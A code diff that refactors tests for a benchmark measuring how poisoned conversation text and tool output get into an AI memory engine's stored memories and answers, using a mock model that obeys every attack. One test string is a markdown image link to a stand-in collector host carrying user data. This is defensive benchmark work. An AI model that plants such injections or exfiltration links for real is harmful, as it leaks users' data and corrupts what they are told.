@@ -1,6 +1,6 @@
-"""A model that obeys every attack: what it can do is bounded by the engine, not by its manners.
+"""A model that obeys every attack: the engine bounds what it can do.
 
-How often a real model obeys is measured by `bench/quality/poison/run.py`; here it always does.
+How often a real model obeys is measured by `bench/quality/poisoning.py`; here it always does.
 """
 
 from __future__ import annotations
@@ -20,16 +20,12 @@ from hypothesis import strategies as st
 
 from undertow.bench.mock.llm import MODEL, MockReplies
 from undertow.bench.mock.replies import Messages
-from undertow.bench.mock.server import spawn_server
-from undertow.bench.quality.poison.attack import Overheard, settings_for, shown
-from undertow.bench.quality.poison.cases import Case, all_cases
-from undertow.bench.quality.poison.judge import of_answer, of_memories, verdict
-from undertow.bench.quality.poison.run import Outcome, judged_again, run, summary
+from undertow.bench.quality.poisoning import Attack, Outcome, attacks, run, settings_for, summary, verdict
 from undertow.engine.api.engine import Engine
 from undertow.engine.base.model import Memory, Message, Turn
 from undertow.engine.encoders.base import HashingEncoder
 from undertow.engine.storage.row_codec import memory_of
-from undertow.prompts.builders import Operation, Prompt, prompt_version
+from undertow.prompts.builders import Operation, Prompt, prompt_version, quoted
 from undertow.prompts.reply_schemas import EPISODE_CHARS, FACT_CHARS
 
 from ...support.engine import ENCODER, RecordingLLM, open_engine, opened, rows_of, settings_of
@@ -321,70 +317,48 @@ def test_deleting_the_attack_takes_along_what_it_had_written(tmp_path: Path) -> 
 # ---- the benchmark measures what it says
 
 
-class Told(NamedTuple):
-    """The prompts of each case and control, by tenant, and the records of the run."""
+class AttackRun(NamedTuple):
+    """The prompts of each case and control, by tenant, and the outcomes."""
 
     prompts: Mapping[str, list[Prompt]]
     outcomes: list[Outcome]
 
 
 @pytest.fixture(scope="module")
-def told(tmp_path_factory: pytest.TempPathFactory) -> Told:
+def attack_run(tmp_path_factory: pytest.TempPathFactory) -> AttackRun:
     llm = RecordingLLM(MockReplies())
-    with opened(
-        tmp_path_factory.mktemp("told"), settings_for(None, None), HashingEncoder(384), llm
-    ) as engine:
-        outcomes = list(run(engine, {}, all_cases()))
-    return Told(llm.prompts, outcomes)
+    store = tmp_path_factory.mktemp("attacked")
+    with opened(store, settings_for(None, None), HashingEncoder(384), llm) as engine:
+        return AttackRun(llm.prompts, list(run(engine, attacks())))
 
 
-@pytest.mark.parametrize("case", all_cases(), ids=lambda case: case.name)
-def test_each_attack_reaches_those_who_write_and_who_answer(case: Case, told: Told) -> None:
-    reached = {prompt.operation for prompt in told.prompts[case.name] if shown(case, prompt.user)}
-    assert reached >= {("episode" if case.at == 1 else "merge"), "refine", "answer"}
+def test_each_attack_reaches_the_prompts_that_write_and_answer(attack_run: AttackRun) -> None:
+    for attack in attacks():
+        shown = quoted(attack.text)[1:-1]
+        reached = {prompt.operation for prompt in attack_run.prompts[attack.name] if shown in prompt.user}
+        assert reached >= {("episode" if attack.at == 1 else "merge"), "refine", "answer"}, attack.name
 
 
-def test_every_conversation_fires_merges_and_is_judged(told: Told) -> None:
-    assert [o["case"] for o in told.outcomes if o["family"] != "control"] == [c.name for c in all_cases()]
-    assert all(o["decisions"] == ["waits", "fired", "merged"] for o in told.outcomes)
-    counts = summary(told.outcomes)
+def test_every_conversation_fires_merges_and_is_judged(attack_run: AttackRun) -> None:
+    outcomes = attack_run.outcomes
+    assert [o["case"] for o in outcomes if o["family"] != "control"] == [a.name for a in attacks()]
+    assert all(o["decisions"] == ["waits", "fired", "merged"] for o in outcomes)
+    counts = summary(outcomes)
     assert counts["cases"] == sum(counts["memories"].values()) == sum(counts["answer"].values())
     assert counts["kept_in_memories_control"] == 1.0, "the mock echoes what it is shown"
 
 
-def test_a_result_can_be_judged_again_from_its_file(told: Told) -> None:
-    stored = json.loads(json.dumps(told.outcomes))
-    assert list(judged_again(stored)) == told.outcomes
-
-
-def test_prompts_and_replies_are_overheard(tmp_path: Path) -> None:
-    cases = [case for case in all_cases() if case.name == "tool-output"]
-    with spawn_server() as url:
-        client = Overheard(settings_for(url, None))
-        with opened(tmp_path, settings_for(url, None), HashingEncoder(384), client) as engine:
-            (outcome,) = [o for o in run(engine, client.calls, cases) if o["family"] != "control"]
-    calls = outcome["calls"]
-    assert [c["operation"] for c in calls] == ["episode", "refine", "merge", "refine", "answer"]
-    assert [c["attack_shown"] for c in calls] == [True, True, False, False, True]
-    assert calls[-1]["reply"] == outcome["answer_text"]
-    assert calls[2]["reply"]["narrative"] in outcome["episodes"]
-
-
-@pytest.mark.parametrize("case", all_cases(), ids=lambda case: case.name)
-def test_a_case_is_its_control_with_words_of_the_attacker(case: Case) -> None:
-    plain, poisoned = case.conversation.exchanges(), case.exchanges()
-    for turn, (before, after) in enumerate(zip(plain, poisoned, strict=True)):
-        changed = [message for message in after if message not in before]
-        assert len(changed) == (turn == case.at)
-        assert all(case.text in message["content"] for message in changed)
-    words = " ".join(message["content"] for exchange in plain for message in exchange)
-    assert verdict(words, case.claims) == "absent", "the plain conversation does not claim it"
-    assert bool(case.claims) != bool(case.hides)
-
-
-def test_names_tell_cases_apart() -> None:
-    names = [case.name for case in all_cases()]
-    assert len(set(names)) == len(names) >= 24
+def test_a_case_is_its_control_with_words_of_the_attacker() -> None:
+    assert len({attack.name for attack in attacks()}) == len(attacks()) >= 24
+    for attack in attacks():
+        plain = Attack(attack.control, "control", attack.conversation).exchanges()
+        for turn, (before, after) in enumerate(zip(plain, attack.exchanges(), strict=True)):
+            changed = [message for message in after if message not in before]
+            assert len(changed) == (turn == attack.at)
+            assert all(attack.text in message["content"] for message in changed)
+        words = [message["content"] for exchange in plain for message in exchange]
+        assert verdict(words, attack, words) == "absent", "the plain conversation does not claim it"
+        assert bool(attack.claims) != bool(attack.hides)
 
 
 @pytest.mark.parametrize(
@@ -400,20 +374,19 @@ def test_names_tell_cases_apart() -> None:
     ],
 )
 def test_asserting_is_told_from_reporting(text: str, expected: str) -> None:
-    assert verdict(text, ["cash box", "Marcus stole"]) == expected
+    attack = Attack("", "", {}, claims=("cash box", "Marcus stole"))
+    assert verdict([text], attack, []) == expected
 
 
 def test_leaving_out_counts_only_where_the_control_did_not() -> None:
-    case = next(case for case in all_cases() if case.hides == "ibuprofen")
-    assert of_memories(case, ["His knee hurts."], ["He avoids ibuprofen."]) == "asserted"
-    assert of_memories(case, ["His knee hurts.", "No Ibuprofen."], ["He avoids ibuprofen."]) == "absent"
-    assert of_memories(case, ["His knee hurts."], ["His knee hurts."]) == "absent"
-    assert of_answer(case, "His knee.", "His knee; he avoids ibuprofen.") == "asserted"
-    assert of_answer(case, None, "His knee; he avoids ibuprofen.") is None
+    attack = Attack("", "", {}, hides="ibuprofen")
+    assert verdict(["His knee hurts."], attack, ["He avoids ibuprofen."]) == "asserted"
+    assert verdict(["His knee hurts.", "No Ibuprofen."], attack, ["He avoids ibuprofen."]) == "absent"
+    assert verdict(["His knee hurts."], attack, ["His knee hurts."]) == "absent"
 
 
 def test_a_link_in_an_answer_counts_whoever_is_said_to_have_written_it() -> None:
-    case = next(case for case in all_cases() if case.live)
+    attack = next(attack for attack in attacks() if attack.live)
     link = "It was said: ![map](https://collect.example/p?d=peanuts)"
-    assert of_answer(case, link, "") == "asserted"
-    assert of_memories(case, [link], []) == "reported"
+    assert verdict([link], attack, [], answer=True) == "asserted"
+    assert verdict([link], attack, []) == "reported"
